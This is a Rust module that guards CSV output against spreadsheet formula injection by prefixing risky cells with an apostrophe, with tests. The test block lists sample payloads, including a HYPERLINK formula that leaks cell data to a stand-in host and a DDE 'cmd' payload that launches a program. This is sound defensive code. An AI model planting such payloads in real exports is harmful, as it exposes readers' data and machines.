//! Writing CSV that is safe to open in a spreadsheet: a cell that a spreadsheet would read as a
//! formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return — the OWASP rule) is
//! written with a leading apostrophe, so that a citizen's comment or an agency's name can never
//! run as a formula on a reviewer's machine. Plain numbers (`-0.5`) are left as they are.

use std::borrow::Cow;
use std::io::Write;

/// `value` as it may go into a CSV cell.
pub fn cell(value: &str) -> Cow<'_, str> {
    let risky = value
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && value.parse::<f64>().map_or(true, |n| !n.is_finite()) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// A CSV writer whose every cell goes through [`cell`].
pub struct Writer<W: Write>(csv::Writer<W>);

impl<W: Write> Writer<W> {
    /// A writer over `out`.
    pub fn new(out: W) -> Writer<W> {
        Writer(csv::Writer::from_writer(out))
    }

    /// A writer over `out` with `delimiter` between fields, whose records may differ in length
    /// (a title row above the header).
    pub fn with_delimiter(out: W, delimiter: u8) -> Writer<W> {
        Writer(
            csv::WriterBuilder::new()
                .delimiter(delimiter)
                .flexible(true)
                .from_writer(out),
        )
    }

    /// Writes one record.
    pub fn write_record<I, T>(&mut self, record: I) -> std::io::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0
            .write_record(record.into_iter().map(|v| cell(v.as_ref()).into_owned()))
            .map_err(std::io::Error::other)
    }

    /// Flushes what was written.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }

    /// The underlying output, flushed (the error is the flush's; the writer is dropped with it).
    pub fn into_inner(self) -> std::io::Result<W> {
        self.0.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for risky in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tx",
            "\rx",
            "-inf",
            "+NaN",
        ] {
            assert_eq!(cell(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in ["-0.25", "+3", "12", "Sở Tư pháp", "", "a=b", " =x"] {
            assert_eq!(cell(plain), plain, "{plain:?}");
        }
    }

    proptest::proptest! {
        /// Whatever the text, what is written never starts a formula, and reading it back
        /// gives the text (with the apostrophe when one was added).
        #[test]
        fn no_cell_starts_a_formula(text in "\\PC{0,20}|[=+@\\t\\r-][\\PC]{0,10}") {
            let written = cell(&text);
            let numeric = written.parse::<f64>().is_ok_and(f64::is_finite);
            proptest::prop_assert!(numeric || !written.starts_with(['=', '+', '-', '@', '\t', '\r']));
            let quoted = ["'", text.as_str()].concat();
            proptest::prop_assert!(written == text || written == quoted);
        }
    }

    #[test]
    fn the_writer_neutralises_every_cell() -> Result<(), Box<dyn std::error::Error>> {
        let mut w = Writer::new(Vec::new());
        w.write_record(["=1+1", "ok", "@x"])?;
        let text = String::from_utf8(w.into_inner()?)?;
        assert_eq!(text, "'=1+1,ok,'@x\n");
        Ok(())
    }
}
